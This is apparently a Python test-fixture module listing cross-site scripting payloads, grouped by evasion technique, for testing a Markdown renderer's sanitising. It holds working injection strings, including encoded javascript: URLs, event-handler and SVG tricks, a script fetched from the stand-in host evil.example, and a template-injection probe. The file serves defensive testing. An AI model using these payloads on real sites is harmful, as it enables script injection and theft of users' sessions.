"""Payloads a hostile or careless trainer might type into any field.

Each one, if it ran, would set ``window.__xss`` or open a dialog: the browser test reads
both. Grouped by the trick they try; ``PAYLOADS`` is every base payload in several
Markdown contexts (plain, heading, list, table, quotation, link text).
"""

FLAG = "window.__xss=1"

SCRIPT_AND_STYLE = [
    f"<script>{FLAG}</script>",
    f"<SCRIPT>{FLAG}</SCRIPT>",
    f"<script src=data:,{FLAG}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"</title><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"<!--<script>-->{FLAG}<!--</script>-->",
    f"<style>@import 'javascript:{FLAG}';</style>",
    "<style>body{display:none}</style>",
    f'<div style="background:url(javascript:{FLAG})">x</div>',
    f"<xmp><script>{FLAG}</script></xmp>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>"></noscript>',
    f"<template><script>{FLAG}</script></template>",
]
EVENT_HANDLERS = [
    f"<img src=x onerror={FLAG}>",
    f'<img src="x" onerror="{FLAG}">',
    f"<img/src=x/onerror={FLAG}>",
    f"<body onload={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<video src=x onerror={FLAG}></video>",
    f"<audio src=x onerror={FLAG}>",
    f"<iframe onload={FLAG}></iframe>",
    f"<marquee onstart={FLAG}>x</marquee>",
    f"<select autofocus onfocus={FLAG}>",
    f"<a onmouseover={FLAG}>hover</a>",
    f"<p onclick={FLAG}>click</p>",
    f"<object data=x onerror={FLAG}>",
    f"<img src=x oNeRrOr={FLAG}>",
]
SCRIPT_URLS = [
    f"[x](javascript:{FLAG})",
    f"[x](JaVaScRiPt:{FLAG})",
    f"[x](java\tscript:{FLAG})",
    f"[x](&#106;avascript:{FLAG})",
    f"[x](javascript&colon;{FLAG})",
    f"[x]( javascript:{FLAG})",
    f"[x](<javascript:{FLAG}>)",
    f"[x](vbscript:{FLAG})",
    f"[x][evil]\n\n[evil]: javascript:{FLAG}",
    f"<javascript:{FLAG}>",
    f'<a href="javascript:{FLAG}">x</a>',
    f'<a href="&#x6A;avascript:{FLAG}">x</a>',
    f"[x](%6Aavascript:{FLAG})",
    f"[x](javascript://%0a{FLAG})",
    f"[x](\\javascript:{FLAG})",
]
DATA_URLS = [
    f"[x](data:text/html,<script>{FLAG}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f"![x](data:image/svg+xml,<svg onload={FLAG}>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)",
    f'<img src="data:image/svg+xml,<svg onload={FLAG}>">',
    f"<iframe src=data:text/html,<script>{FLAG}</script>></iframe>",
    f"<object data=data:text/html,<script>{FLAG}</script>></object>",
    f"<embed src=data:text/html,<script>{FLAG}</script>>",
]
SVG_AND_MATH = [
    f"<svg onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{FLAG}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={FLAG}></foreignObject></svg>",
    f"<math><mtext><script>{FLAG}</script></mtext></math>",
    f'<math href="javascript:{FLAG}">x</math>',
    f"<svg><style><img src=x onerror={FLAG}></style></svg>",
]
MARKDOWN_TRICKS = [
    f'![x" onerror="{FLAG}](x)',
    f'![x](x" onerror="{FLAG})',
    f'![x](images/x.png"onerror="{FLAG})',
    f"![<img src=x onerror={FLAG}>](x)",
    f'[x](https://example.org "t\\" onmouseover=\\"{FLAG}")',
    f"[<img src=x onerror={FLAG}>](https://example.org)",
    f'[x](lesson:a" onclick="{FLAG})',
    f'[x](paper:a" onclick="{FLAG})',
    f'::: note" onclick="{FLAG}\nx\n:::',
    f"::: <script>{FLAG}</script>\nx\n:::",
    f"a[^<img src=x onerror={FLAG}>]\n\n[^<img src=x onerror={FLAG}>]: x",
    f"a[^1]\n\n[^1]: <script>{FLAG}</script>",
    f"| a |\n|---|\n| <img src=x onerror={FLAG}> |",
    f"`<script>{FLAG}</script>`",
    f"```html\n<script>{FLAG}</script>\n```",
    f"> <img src=x onerror={FLAG}>",
    f"# <svg onload={FLAG}>",
    f'![x](images/../../x.png" onerror="{FLAG})',
]
ATTRIBUTE_BREAKOUTS = [
    f'" onmouseover="{FLAG}',
    f"' onfocus='{FLAG}' autofocus '",
    f'"><img src=x onerror={FLAG}>',
    f"'><script>{FLAG}</script>",
    f"</a><script>{FLAG}</script>",
    f'" autofocus onfocus="{FLAG}" x="',
    f'"/><svg onload={FLAG}>',
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{FLAG}//'>",
    f"</p></article><script>{FLAG}</script>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{FLAG}">',
    f'<base href="javascript:{FLAG}//">',
    f'<form action="javascript:{FLAG}"><button>x</button></form>',
    f'<iframe srcdoc="<script>{FLAG}</script>"></iframe>',
    f'<link rel=stylesheet href="javascript:{FLAG}">',
    f"&lt;script&gt;{FLAG}&lt;/script&gt;",
    f"＜script＞{FLAG}＜/script＞",
    "{{ config }}{% raw %}x{% endraw %}",
    f"<ſcript>{FLAG}</ſcript>",
]

BASE = (
    SCRIPT_AND_STYLE + EVENT_HANDLERS + SCRIPT_URLS + DATA_URLS + SVG_AND_MATH
    + MARKDOWN_TRICKS + ATTRIBUTE_BREAKOUTS
)  # fmt: skip
CONTEXTS = ["{}", "## {}", "- {}", "[{}](https://example.org)"]

PAYLOADS = list(BASE)
for _context in CONTEXTS[1:]:
    PAYLOADS += [_context.format(p) for p in BASE[::3] if "\n" not in p]
